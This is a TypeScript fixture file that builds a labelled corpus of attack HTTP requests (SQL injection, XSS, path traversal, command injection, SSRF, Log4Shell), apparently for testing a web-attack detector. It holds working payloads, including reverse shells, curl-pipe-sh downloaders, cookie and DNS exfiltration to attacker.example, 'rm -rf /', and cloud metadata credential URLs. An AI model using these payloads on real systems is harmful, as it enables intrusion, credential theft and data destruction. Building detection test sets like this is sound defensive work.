// Hand-written attack payloads, modelled on what sqlmap, XSStrike, commix, ffuf/dirsearch word
// lists, Log4Shell scanners and PayloadsAllTheThings send. Each is placed where real attacks put
// it (query, path, headers, cookies, JSON/urlencoded/text bodies). Query, cookie and parsed-body
// values are given as the application sees them (decoded once); paths as sent on the wire.
// These were written before tuning the engine and are not edited to make it pass.
import {
  BROWSER_AGENTS, CLIENT_AGENTS, browserHeaders, clientHeaders, prng, siteCookies, type CorpusEntry,
} from './common.ts';

const rand = prng(0xa77ac);
let category = '';

function base(method: string, path: string): CorpusEntry {
  const agent = BROWSER_AGENTS[Math.floor(rand() * BROWSER_AGENTS.length)] as string;
  return {
    label: 'attack',
    category,
    note: '',
    method,
    path,
    query: {},
    headers: browserHeaders(agent, rand),
    cookies: siteCookies(rand),
  };
}

const out: CorpusEntry[] = [];

/** A query parameter. */
function q(param: string, payload: string, note: string, path = '/search'): void {
  const e = base('GET', path);
  e.query = { [param]: payload };
  if (rand() < 0.4 && param !== 'page') e.query.page = '1';
  e.note = note;
  out.push(e);
}

/** A whole query object (for parameter-name payloads). */
function qs(query: Record<string, string | string[]>, note: string, path = '/login'): void {
  const e = base('GET', path);
  e.query = query;
  e.note = note;
  out.push(e);
}

/** A raw request path, as sent. */
function p(path: string, note: string): void {
  const e = base('GET', path);
  e.note = note;
  out.push(e);
}

/** A header value. */
function h(name: string, value: string, note: string, path = '/'): void {
  const e = base('GET', path);
  e.headers[name] = value;
  e.note = note;
  out.push(e);
}

/** A cookie value (as a cookie parser gives it). */
function ck(name: string, value: string, note: string, path = '/account'): void {
  const e = base('GET', path);
  e.cookies[name] = value;
  e.note = note;
  out.push(e);
}

/** A JSON body, written as JSON text (so "__proto__" stays an own key, as JSON.parse makes it). */
function json(text: string, note: string, path = '/api/v1/items', method = 'POST'): void {
  const agent = CLIENT_AGENTS[Math.floor(rand() * 6)] as string;
  const e = base(method, path);
  e.headers = rand() < 0.5 ? clientHeaders(agent, rand, { 'content-type': 'application/json' })
    : { ...e.headers, 'content-type': 'application/json', origin: 'https://shop.example.com' };
  e.body = JSON.parse(text);
  e.note = note;
  out.push(e);
}

/** An urlencoded form body, parsed (values decoded once). */
function form(body: Record<string, string>, note: string, path = '/contact'): void {
  const e = base('POST', path);
  e.headers['content-type'] = 'application/x-www-form-urlencoded';
  e.body = body;
  e.note = note;
  out.push(e);
}

/** A raw text body. */
function text(body: string, note: string, contentType = 'text/plain', path = '/api/v1/import'): void {
  const e = base('POST', path);
  e.headers['content-type'] = contentType;
  e.body = body;
  e.note = note;
  out.push(e);
}

// ---------------------------------------------------------------------------------------------
category = 'sqli';
q('id', "1' OR '1'='1", 'classic string tautology', '/products');
q('id', "1' OR '1'='1' -- -", 'tautology with comment', '/products');
q('q', "' OR 1=1--", 'tautology, comment');
q('q', "' or 1=1#", 'tautology, MySQL hash comment');
q('username', "admin'--", 'auth bypass by truncation', '/login');
q('username', "admin' #", 'auth bypass, hash comment', '/login');
q('username', "admin'/*", 'auth bypass, block comment', '/login');
q('id', '1 OR 1=1', 'numeric tautology', '/orders');
q('id', '1) OR (1=1', 'numeric tautology in parentheses', '/orders');
q('name', "') or ('a'='a", 'parenthesised string tautology', '/users');
q('name', '" or "1"="1', 'double-quote tautology', '/users');
q('id', '1 AND 1=2 UNION SELECT NULL,NULL,NULL--', 'union with NULL columns', '/products');
q('q', "' UNION SELECT username, password FROM users--", 'union credential dump');
q('id', '-1 UNION ALL SELECT 1,@@version,3', 'union all with version', '/news');
q('id', '1 UN/**/ION SEL/**/ECT 1,2,3', 'keywords split by inline comments', '/news');
q('id', '1/*!50000UNION*//*!50000SELECT*/1,2,3', 'MySQL versioned comments', '/news');
q('id', '1; DROP TABLE users', 'stacked drop', '/products');
q('id', "1'; DROP TABLE users;--", 'stacked drop after quote', '/products');
q('q', "'; EXEC xp_cmdshell('dir')--", 'MSSQL xp_cmdshell');
q('id', '1 AND SLEEP(5)', 'MySQL time-based', '/products');
q('id', "1' AND SLEEP(5)#", 'time-based after quote', '/products');
q('id', '1 AND (SELECT 4523 FROM (SELECT(SLEEP(5)))YxGd)', 'sqlmap MySQL time-based subquery', '/item');
q('q', "'; WAITFOR DELAY '0:0:5'--", 'MSSQL waitfor');
q('id', '1); SELECT pg_sleep(5)--', 'PostgreSQL stacked sleep', '/item');
q('id', '1 AND BENCHMARK(5000000,MD5(0x41))', 'MySQL benchmark', '/item');
q('q', "' AND extractvalue(1,concat(0x7e,(select version())))--", 'error-based extractvalue');
q('id', '1 AND updatexml(1,concat(0x7e,database()),1)', 'error-based updatexml', '/item');
q('q', "' AND 1=CONVERT(int,@@version)--", 'MSSQL error-based convert');
q('id', "1' ORDER BY 3--+", 'column count probing', '/category');
q('id', "1' GROUP BY 1,2--", 'group by probing', '/category');
q('id', '1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64', 'boolean blind extraction', '/item');
q('q', "' or ''='", 'empty string tautology');
q('username', "admin' or '1'='1'/*", 'auth bypass with block comment', '/login');
q('id', "1' AnD 1=1 -- -", 'case-mixed boolean', '/item');
q('id', "1'\tor\t1=1--", 'tabs instead of spaces', '/item');
q('id', '1 || 1=1', 'pipe-pipe logic', '/item');
q('q', "1' && '1'='1", 'ampersand logic');
q('q', "' OR 1 IN (SELECT @@version)--", 'IN subquery');
q('id', '1 RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))', 'sqlmap RLIKE boolean', '/item');
q('q', "'XOR(if(now()=sysdate(),sleep(5),0))XOR'", 'XOR sleep polyglot');
q('id', "1 waitfor delay '0:0:10'--", 'waitfor without stacking', '/item');
q('q', "'; shutdown--", 'MSSQL shutdown');
q('id', '1 OR pg_sleep(5)--', 'PostgreSQL sleep', '/item');
q('id', '1 AND 3792=(SELECT 3792 FROM PG_SLEEP(5))', 'sqlmap PostgreSQL time-based', '/item');
q('id', '1 AND 8526=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)', 'sqlmap Oracle time-based', '/item');
q('id', '1 AND 5567=CAST((CHR(113)||CHR(118)||(SELECT (CASE WHEN (5567=5567) THEN 1 ELSE 0 END))::text||CHR(113))::text AS NUMERIC)', 'sqlmap PostgreSQL error-based', '/item');
q('q', "1%' AND 7894=7894 AND '%'='", 'sqlmap LIKE-context boolean');
q('id', '1) AND 7894=7894 AND (4518=4518', 'sqlmap parenthesised boolean', '/item');
q('q', "' oR 1=1 LiMiT 1 -- ", 'case-mixed with limit');
q('q', "' UNION SELECT NULL,table_name FROM information_schema.tables--", 'schema enumeration');
q('id', "1' INTO OUTFILE '/var/www/html/shell.php'--", 'webshell via outfile', '/item');
q('q', "1' or '1' like '1", 'LIKE tautology');
q('q', "' or true--", 'boolean literal');
q('q', "1' or not false#", 'negated literal');
q('q', "' HAVING 1=1--", 'MSSQL having error');
q('id', '1 ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2,3', 'fullwidth keywords', '/news');
q('id', '1%27%20OR%20%271%27%3D%271', 'double URL-encoded tautology', '/products');
q('q', '(SELECT CHAR(113)+CHAR(106)+CHAR(122))', 'MSSQL char concatenation');
q('id', "1 AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#", 'polyglot', '/item');
q('email', "user@example.com' OR 1=1--", 'email field injection', '/newsletter');
q('q', "'+(select load_file('\\\\\\\\attacker.example\\\\x'))+'", 'load_file UNC exfiltration');
q('id', '1;SELECT * FROM users', 'stacked select', '/item');
q('id', "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--", 'double-query error-based', '/item');
p('/products/1%20OR%201=1', 'tautology in path segment');
p('/api/users/1%27%20UNION%20SELECT%20username,password%20FROM%20users--', 'union in path segment');
p('/item/5;DROP%20TABLE%20items', 'stacked query in path');
h('user-agent', "Mozilla/5.0' AND SLEEP(5) AND '1'='1", 'time-based in user agent');
h('x-forwarded-for', "127.0.0.1' OR 1=1--", 'tautology in X-Forwarded-For');
h('referer', "https://shop.example.com/?id=1' UNION SELECT 1,2,3--", 'union in referer');
h('x-customer-id', '42 AND 1=1', 'boolean in custom header');
ck('tracking_id', "xyz' AND 1=1--", 'boolean in cookie');
ck('lang', "en' UNION SELECT password FROM users--", 'union in cookie');
ck('user_id', '1 OR 1=1', 'tautology in cookie');
json('{"username":"admin\'--","password":"x"}', 'auth bypass in JSON login', '/api/login');
json('{"filter":{"name":"\' OR \'1\'=\'1"}}', 'tautology in nested JSON filter', '/api/search');
json('{"id":"1; DROP TABLE orders--"}', 'stacked drop in JSON', '/api/orders/lookup');
json('{"search":"x\' UNION SELECT credit_card FROM payments--"}', 'union in JSON search', '/api/search');
json('{"sort":"name ASC, (SELECT SLEEP(5))"}', 'subquery in sort column', '/api/products');
json('{"order":"id DESC; WAITFOR DELAY \'0:0:5\'"}', 'waitfor in order parameter', '/api/products');
form({ username: "admin' OR '1'='1", password: 'x' }, 'form login tautology', '/login');
form({ email: "x@y.com' AND 1=1--", name: 'x' }, 'form email boolean', '/subscribe');
text("1' AND SLEEP(5)--", 'text body time-based');

// ---------------------------------------------------------------------------------------------
category = 'xss';
q('q', '<script>alert(1)</script>', 'script tag');
q('q', '<ScRiPt>alert(document.cookie)</sCrIpT>', 'case-mixed script tag');
q('q', '"><script>alert(1)</script>', 'attribute breakout to script');
q('q', "'><img src=x onerror=alert(1)>", 'breakout to img onerror');
q('name', '<img src=x onerror=alert(1)>', 'img onerror', '/profile');
q('q', "<IMG SRC=JaVaScRiPt:alert('XSS')>", 'javascript URL in img');
q('q', '<svg/onload=alert(1)>', 'svg onload with slash separator');
q('q', '<svg onload=alert&#40;1&#41;>', 'entity-encoded parentheses');
q('msg', "<body onload=alert('XSS')>", 'body onload', '/guestbook');
q('q', '<iframe src="javascript:alert(1)"></iframe>', 'iframe javascript src');
q('q', '<iframe srcdoc="<script>alert(1)</script>">', 'iframe srcdoc');
q('comment', '<a href="javascript:alert(1)">click</a>', 'anchor javascript href', '/post');
q('comment', '<a href="jAvAsCrIpT&colon;alert(1)">x</a>', 'named entity colon', '/post');
q('q', '<img src="jav&#x09;ascript:alert(\'XSS\');">', 'tab entity inside scheme');
q('q', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', 'decimal entities');
q('q', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>', 'padded decimal entities without semicolons');
q('q', '<details open ontoggle=alert(1)>', 'details ontoggle');
q('q', '<input autofocus onfocus=alert(1)>', 'autofocus onfocus');
q('q', '<marquee onstart=alert(1)>', 'marquee onstart');
q('q', '<video><source onerror="alert(1)">', 'video source onerror');
q('q', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', 'object data URL');
q('q', '<embed src="javascript:alert(1)">', 'embed javascript');
q('q', '<form action=javascript:alert(1)><input type=submit>', 'form action javascript');
q('q', '<button formaction=javascript:alert(1)>x</button>', 'button formaction');
q('q', '" onmouseover="alert(1)', 'attribute breakout with handler');
q('q', "' autofocus onfocus=alert(1) x='", 'single-quote attribute breakout');
q('q', "';alert(String.fromCharCode(88,83,83))//", 'JS string breakout');
q('q', '"-alert(1)-"', 'JS expression breakout');
q('q', '</script><script>alert(1)</script>', 'script context breakout');
q('q', "{{constructor.constructor('alert(1)')()}}", 'AngularJS sandbox escape');
q('q', "{{$on.constructor('alert(1)')()}}", 'AngularJS $on constructor');
q('next', 'javascript:alert(document.domain)', 'javascript URL in redirect', '/login');
q('url', 'javascript://%0aalert(1)', 'javascript URL with encoded newline', '/out');
q('next', 'data:text/html,<script>alert(1)</script>', 'data URL', '/login');
q('q', '%3Cscript%3Ealert(1)%3C/script%3E', 'double URL-encoded script');
q('q', '＜script＞alert(1)＜/script＞', 'fullwidth angle brackets');
q('q', '<scr<script>ipt>alert(1)</scr</script>ipt>', 'nested tag filter evasion');
q('q', '\\u003cimg src=x onerror=alert(1)\\u003e', 'JS unicode escapes');
q('q', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', 'mutation XSS');
q('q', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'svg animate onbegin');
q('q', '<img src=x:alert(alt) onerror=eval(src) alt=0>', 'eval of src');
q('q', '<div style="background:url(javascript:alert(1))">', 'CSS url javascript');
q('q', '<div style="width:expression(alert(1))">', 'CSS expression');
q('q', '<svg><script>alert&#40;1&#41;</script>', 'svg script with entities');
q('q', '<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>', 'iframe data URL');
q('q', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">', 'meta refresh');
q('q', '<x onclick=alert(1)>click me', 'custom tag handler');
q('q', "<img src=1 onerror=fetch('//attacker.example/'+document.cookie)>", 'cookie exfiltration');
q('q', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'noscript mutation');
q('q', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e', '0xsobky polyglot');
q('q', '<a href=javas&#99;ript:alert(1)>x</a>', 'entity in the middle of scheme');
q('q', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>', 'svg xlink href');
p('/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'script tag in path');
p('/profile/%22%3E%3Csvg%2Fonload%3Dalert(1)%3E', 'svg onload in path');
h('referer', 'https://example.com/"><script>alert(1)</script>', 'script in referer');
h('user-agent', 'Mozilla/5.0 <script>alert(1)</script>', 'script in user agent (log viewer XSS)');
h('x-forwarded-for', '<img src=x onerror=alert(1)>', 'img in X-Forwarded-For');
ck('theme', '<svg onload=alert(1)>', 'svg in cookie');
ck('prefs', '"><script>alert(document.domain)</script>', 'breakout in cookie');
json('{"comment":"<img src=x onerror=alert(1)>"}', 'stored XSS in comment', '/api/comments');
json('{"name":"<script>document.location=\'http://attacker.example/?c=\'+document.cookie</script>"}', 'cookie theft script', '/api/profile', 'PUT');
json('{"bio":"<a href=\\"javascript:alert(1)\\">me</a>"}', 'javascript link in bio', '/api/profile', 'PATCH');
json('{"profile":{"website":"javascript:alert(document.cookie)"}}', 'javascript URL as website', '/api/profile', 'PUT');
form({ message: '<svg><animatetransform onbegin=alert(1)>', name: 'x' }, 'svg animatetransform in form');
form({ title: '<iframe src=javascript:alert(1)>', body: 'hello' }, 'iframe in form title', '/posts/new');
text('<html><body><img src=x onerror=alert(1)></body></html>', 'HTML upload with handler', 'text/html', '/api/v1/pages');
text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'SVG upload with onload', 'image/svg+xml', '/api/v1/avatar');

// ---------------------------------------------------------------------------------------------
category = 'path_traversal';
q('file', '../../../../etc/passwd', 'classic traversal', '/download');
q('file', '..\\..\\..\\windows\\win.ini', 'Windows traversal', '/download');
q('page', '../../../../../../etc/shadow', 'deep traversal to shadow', '/view');
q('file', '....//....//....//etc/passwd', 'non-recursive filter bypass', '/download');
q('file', '..%2f..%2f..%2fetc%2fpasswd', 'double-encoded slashes', '/download');
q('path', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'double-encoded dots and slashes', '/static');
q('file', '..%c0%af..%c0%afetc%c0%afpasswd', 'overlong UTF-8 slash', '/download');
q('file', '..%252f..%252f..%252fetc%252fpasswd', 'triple-encoded slashes', '/download');
q('file', '/etc/passwd', 'absolute path', '/download');
q('template', '/proc/self/environ', 'proc environ', '/render');
q('img', '../../../../etc/passwd\u0000.png', 'null byte extension bypass', '/image');
q('file', '..\\\\..\\\\..\\\\..\\\\boot.ini', 'escaped backslashes', '/download');
q('log', '../../../var/log/apache2/access.log', 'log poisoning target', '/logs');
q('doc', 'file:///etc/passwd', 'file URL', '/preview');
q('file', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'absolute Windows path', '/download');
q('view', '../../WEB-INF/web.xml', 'Java web.xml', '/page');
q('file', '..%5c..%5c..%5cwindows%5cwin.ini', 'double-encoded backslashes', '/download');
q('file', '%252e%252e%252fetc%252fpasswd', 'triple-encoded dots', '/download');
q('file', '..././..././..././etc/passwd', 'dot-slash filter bypass', '/download');
q('path', '/var/www/html/../../../etc/passwd', 'traversal after absolute prefix', '/static');
q('file', '....\\/....\\/etc/passwd', 'mixed separators', '/download');
q('file', '..%u2215..%u2215etc%u2215passwd', 'IIS %u division slash', '/download');
q('file', '%uff0e%uff0e/%uff0e%uff0e/etc/passwd', 'fullwidth dots', '/download');
q('file', '../../../../../../../../../../etc/hosts', 'very deep traversal', '/download');
q('config', '../config/database.yml', 'Rails database config', '/settings');
q('file', '../../.env', 'dotenv secrets', '/download');
q('file', '../../../root/.ssh/id_rsa', 'SSH key', '/download');
q('file', '....//....//....//....//windows/win.ini', 'filter bypass on Windows', '/download');
q('file', '../../../../proc/self/cmdline', 'proc cmdline', '/download');
q('page', 'php://filter/convert.base64-encode/resource=../../config.php', 'PHP filter with traversal', '/index.php');
p('/static/..%2f..%2f..%2fetc%2fpasswd', 'encoded traversal in path');
p('/images/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'encoded dots in path');
p('/download/..%5c..%5c..%5cwindows%5cwin.ini', 'encoded backslashes in path');
p('/..;/..;/manager/html', 'Tomcat path parameter bypass');
p('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 'Apache CVE-2021-41773');
p('/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd', 'Apache CVE-2021-42013 double encoding');
p('/files/../../../../etc/passwd', 'raw dot segments (path-as-is)');
p('/assets/..%c0%af..%c0%afetc/passwd', 'overlong slash in path');
p('/api/v1/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'double-encoded traversal in API path');
h('x-file-name', '../../../../etc/passwd', 'traversal in custom header', '/upload');
h('referer', 'https://example.com/page?file=../../../../etc/passwd', 'traversal in referer');
ck('template', '../../../../etc/passwd', 'traversal in cookie');
ck('lang', '../../../../../../windows/win.ini', 'traversal in language cookie');
json('{"filename":"../../../../etc/passwd"}', 'traversal in JSON filename', '/api/files/read');
json('{"attachment":{"path":"..\\\\..\\\\..\\\\windows\\\\system32\\\\config\\\\sam"}}', 'SAM hive in JSON', '/api/attachments');
json('{"template":"....//....//etc/passwd"}', 'filter bypass in JSON', '/api/render');
json('{"entries":["../../../../tmp/evil.sh"]}', 'zip-slip style entry name', '/api/archive');
form({ file: '../../../../etc/passwd', submit: 'Download' }, 'traversal in form', '/download');
form({ page: '..%2f..%2f..%2fetc%2fpasswd' }, 'double-encoded traversal in form', '/view');
text('../../../../etc/passwd', 'traversal as text body');

// ---------------------------------------------------------------------------------------------
category = 'cmdi';
q('host', '127.0.0.1; cat /etc/passwd', 'semicolon chaining', '/ping');
q('host', '127.0.0.1 && whoami', 'and chaining', '/ping');
q('host', '127.0.0.1 | id', 'pipe', '/ping');
q('host', '127.0.0.1|id', 'pipe without spaces', '/ping');
q('cmd', ';id', 'leading semicolon', '/tools');
q('cmd', '|id;', 'pipe and semicolon', '/tools');
q('name', '`id`', 'backtick substitution', '/hello');
q('name', '$(whoami)', 'dollar substitution', '/hello');
q('host', '127.0.0.1\nid', 'newline separator', '/ping');
q('host', '; sleep 5', 'time-based sleep', '/ping');
q('host', '| sleep 10 |', 'sleep between pipes', '/ping');
q('host', '&& ping -c 10 127.0.0.1', 'ping timing', '/ping');
q('host', '& ping -n 10 127.0.0.1 &', 'Windows ping timing', '/ping');
q('file', ';${IFS}cat${IFS}/etc/passwd', '$IFS instead of spaces', '/view');
q('file', ';cat$IFS/etc/passwd', '$IFS without braces', '/view');
q('host', "127.0.0.1;c'a't /etc/passwd", 'quote-split command', '/ping');
q('host', ";w'h'o'am'i", 'quotes inside whoami', '/ping');
q('host', ';wh\\oami', 'backslash inside command', '/ping');
q('host', '|/???/c?t /???/p??s??', 'glob-spelled path', '/ping');
q('host', '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'bash reverse shell', '/ping');
q('host', '| nc -e /bin/sh 10.0.0.1 4444', 'netcat reverse shell', '/ping');
q('url', '; curl http://attacker.example/x.sh | sh', 'download and execute', '/fetch');
q('url', '; wget http://attacker.example/shell -O /tmp/s', 'wget dropper', '/fetch');
q('name', '$(curl -s http://attacker.example/$(whoami))', 'exfiltration via substitution', '/hello');
q('addr', ';echo VFQPRS$((44+55))$(echo VFQPRS)VFQPRS', 'commix classic probe', '/lookup');
q('addr', '|echo ZGKLMN$((63+27))$(echo ZGKLMN)ZGKLMN', 'commix pipe probe', '/lookup');
q('dir', '& dir c:\\', 'Windows dir', '/browse');
q('file', '| type C:\\windows\\win.ini', 'Windows type', '/view');
q('host', '; uname -a', 'uname', '/ping');
q('host', '|| whoami', 'or chaining', '/ping');
q('path', 'x; ls -la /', 'ls', '/list');
q('file', ';{cat,/etc/passwd}', 'brace expansion', '/view');
q('id', '1;/usr/bin/id', 'absolute binary path', '/user');
q('expr', "; python -c 'import os;os.system(\"id\")'", 'python one-liner', '/calc');
q('host', '| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'encoded PowerShell', '/ping');
q('url', '& certutil -urlcache -split -f http://attacker.example/x.exe', 'certutil download', '/fetch');
q('domain', ';nslookup $(whoami).attacker.example', 'DNS exfiltration', '/dns');
q('domain', 'google.com;ping -c 3 attacker.example', 'ping out-of-band', '/dns');
q('host', ';sleep${IFS}5', 'sleep with $IFS', '/ping');
p('/api/ping/127.0.0.1;id', 'separator in path segment');
p('/tools/nslookup/example.com%7Cwhoami', 'encoded pipe in path');
h('user-agent', '() { :; }; /bin/bash -c "cat /etc/passwd"', 'Shellshock in user agent', '/cgi-bin/status');
h('referer', "() { :;}; echo; /bin/bash -c 'id'", 'Shellshock in referer', '/cgi-bin/test.cgi');
h('cookie-test', '() { _; } >_[$($())] { echo; /usr/bin/id; }', 'Shellshock variant in custom header', '/cgi-bin/test.cgi');
h('x-forwarded-for', '127.0.0.1; curl http://attacker.example', 'chaining in X-Forwarded-For');
ck('host', 'localhost;id', 'chaining in cookie');
ck('lang', 'en|whoami', 'pipe in cookie');
json('{"host":"8.8.8.8; cat /etc/passwd"}', 'chaining in JSON', '/api/diagnostics/ping');
json('{"filename":"report.pdf; rm -rf /"}', 'destructive chaining', '/api/convert');
json('{"cmd":"$(sleep 5)"}', 'substitution sleep in JSON', '/api/run');
json('{"url":"https://example.com/`whoami`"}', 'backticks inside URL', '/api/screenshot');
form({ ip: '127.0.0.1|cat /etc/passwd' }, 'pipe in form', '/diagnostics');
form({ domain: 'example.com && nc attacker.example 4444 -e /bin/bash' }, 'netcat in form', '/whois');
text('127.0.0.1; id', 'text body chaining');

// ---------------------------------------------------------------------------------------------
category = 'ssrf';
q('url', 'http://127.0.0.1/admin', 'loopback', '/fetch');
q('url', 'http://localhost:8080/actuator/env', 'localhost actuator', '/fetch');
q('url', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'AWS metadata', '/fetch');
q('url', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', 'GCP metadata', '/fetch');
q('url', 'http://[::1]:80/', 'IPv6 loopback', '/fetch');
q('url', 'http://0.0.0.0:6379/', 'all-zero address', '/fetch');
q('url', 'http://2130706433/', 'decimal IP', '/fetch');
q('url', 'http://0x7f000001/', 'hex IP', '/fetch');
q('url', 'http://0177.0.0.1/', 'octal IP', '/fetch');
q('url', 'http://017700000001/', 'octal integer IP', '/fetch');
q('url', 'http://127.1/', 'short-form IP', '/fetch');
q('url', 'http://0/', 'zero host', '/fetch');
q('url', 'http://10.0.0.5:8500/v1/agent/self', 'internal Consul', '/fetch');
q('url', 'http://192.168.1.1/', 'router', '/fetch');
q('url', 'http://172.16.0.10:9200/_cat/indices', 'internal Elasticsearch', '/fetch');
q('url', 'file:///etc/passwd', 'file scheme', '/fetch');
q('url', 'gopher://127.0.0.1:6379/_SET%20x%20y', 'gopher to Redis', '/fetch');
q('url', 'dict://127.0.0.1:11211/stats', 'dict to memcached', '/fetch');
q('url', 'http://[::ffff:127.0.0.1]/', 'IPv4-mapped IPv6', '/fetch');
q('url', 'http://[0:0:0:0:0:ffff:7f00:1]/', 'expanded IPv4-mapped IPv6', '/fetch');
q('url', 'http://127.0.0.1.nip.io/', 'wildcard DNS to loopback', '/fetch');
q('url', 'http://localtest.me/', 'public name resolving to loopback', '/fetch');
q('url', 'http://trusted.example@127.0.0.1/', 'userinfo confusion', '/fetch');
q('url', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01', 'Azure metadata', '/fetch');
q('url', 'http://100.100.100.200/latest/meta-data/', 'Alibaba metadata', '/fetch');
q('url', 'http://169.254.170.2/v2/credentials/', 'ECS task credentials', '/fetch');
q('url', 'http://①②⑦.⓪.⓪.①/', 'enclosed alphanumerics', '/fetch');
q('url', 'http://%31%32%37.0.0.1/', 'percent-encoded host', '/fetch');
q('url', 'https://localhost/', 'https localhost', '/fetch');
q('url', 'http://0x7f.0x0.0x0.0x1/', 'dotted hex', '/fetch');
q('url', 'http://[fd00:ec2::254]/latest/meta-data/', 'AWS IMDS over IPv6', '/fetch');
q('url', 'http:\\\\127.0.0.1\\admin', 'backslashes after scheme', '/fetch');
q('next', '//169.254.169.254/latest/meta-data/', 'protocol-relative metadata', '/redirect');
q('url', 'http://instance-data/latest/meta-data/', 'EC2 instance-data name', '/fetch');
q('url', 'ftp://127.0.0.1:21/', 'ftp to loopback', '/fetch');
q('url', 'http://kubernetes.default.svc/api/v1/namespaces', 'Kubernetes API', '/fetch');
q('url', 'http://127.0.0.1:2375/containers/json', 'Docker API', '/fetch');
q('src', 'jar:http://127.0.0.1!/', 'jar scheme', '/fetch');
json('{"webhook_url":"http://169.254.169.254/latest/user-data"}', 'metadata as webhook', '/api/webhooks');
json('{"avatar_url":"http://localhost:6379/"}', 'Redis via avatar URL', '/api/profile', 'PUT');
json('{"image":{"src":"file:///proc/self/environ"}}', 'file scheme in image source', '/api/render');
json('{"callback":"gopher://10.0.0.3:25/_HELO%20localhost"}', 'gopher SMTP', '/api/jobs');
form({ url: 'http://127.0.0.1:22/', preview: '1' }, 'port scan via preview', '/preview');
form({ feed: 'http://0x7f000001:8080/' }, 'hex IP in feed URL', '/feeds');
p('/proxy/http://169.254.169.254/latest/meta-data/', 'metadata through path proxy');
p('/image/http%3A%2F%2F127.0.0.1%2Fadmin', 'encoded URL in path');
h('x-callback-url', 'http://127.0.0.1:8080/', 'callback header');
ck('redirect', 'http://192.168.0.1/admin', 'private URL in cookie');

// ---------------------------------------------------------------------------------------------
category = 'jndi';
h('user-agent', '${jndi:ldap://attacker.example/a}', 'Log4Shell in user agent');
h('x-api-version', '${jndi:ldap://x.attacker.example:1389/Exploit}', 'Log4Shell in X-Api-Version');
q('q', '${jndi:rmi://attacker.example:1099/obj}', 'rmi lookup in query');
h('referer', '${jndi:dns://attacker.example/a}', 'dns lookup in referer');
q('q', '${${lower:j}ndi:ldap://attacker.example/a}', 'lower lookup obfuscation');
h('x-forwarded-for', '${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}', 'upper lookups');
h('user-agent', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}', 'default-value obfuscation');
q('search', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}', 'env default obfuscation');
h('x-forwarded-host', '${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}', 'obfuscated protocol');
ck('session', '${${lower:jndi}:${lower:rmi}://attacker.example/a}', 'lower jndi in cookie');
h('authorization', 'Bearer ${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/a}', 'nested lower in authorization');
q('username', '${${::-j}ndi:rmi://attacker.example/a}', 'partial default obfuscation', '/login');
h('user-agent', '${jndi:ldap://${env:USER}.attacker.example/a}', 'env exfiltration');
h('x-request-id', '${jndi:ldap://${sys:java.version}.attacker.example/a}', 'system property exfiltration');
h('accept', '${jndi:ldaps://attacker.example/a}', 'ldaps in accept');
h('cache-control', '${jndi:iiop://attacker.example/a}', 'iiop in cache-control');
h('if-modified-since', '${jndi:nis://attacker.example/a}', 'nis in if-modified-since');
h('x-client-ip', '${jndi:corba://attacker.example/a}', 'corba');
h('true-client-ip', '${jndi:http://attacker.example/a}', 'http lookup');
q('q', '%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D', 'double URL-encoded');
h('user-agent', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", 'date lookups');
h('x-api-version', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}', 'env defaults everywhere');
q('q', '${j${::-n}di:ldap://attacker.example/a}', 'split inside the keyword');
h('x-forwarded-for', '${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}', 'k8s lookups');
h('user-agent', '${jNdI:LdAp://attacker.example/a}', 'case mixing');
